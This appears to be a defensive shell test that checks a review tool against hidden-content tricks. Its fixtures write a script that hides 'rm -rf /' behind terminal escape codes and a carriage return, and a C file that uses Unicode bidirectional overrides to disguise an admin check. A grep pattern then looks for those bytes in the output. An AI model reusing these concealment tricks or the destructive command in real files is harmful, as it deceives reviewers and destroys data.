# write to the user's terminal by a file's content, or show it in another order than it is in
needs=review
attempt() {
    printf '#!/bin/sh\nrm -rf / # \033[8m hidden \033[0m\r echo harmless\n' >run.sh
    printf 'if (level != "user\u202e \u2066// only for admins\u2069 \u2066") {}\n' >login.c
    git add -A
    git -c user.name=x -c user.email=x commit -qm Add
    say 'it is there'
}
held() {
    review
    sed -n '1,/^On branch/p' "$seen" >"$D/ours"
    ! grep -qaP '\x1b|\r|\xe2\x80\xae|\xe2\x81\xa6' "$D/ours"
}
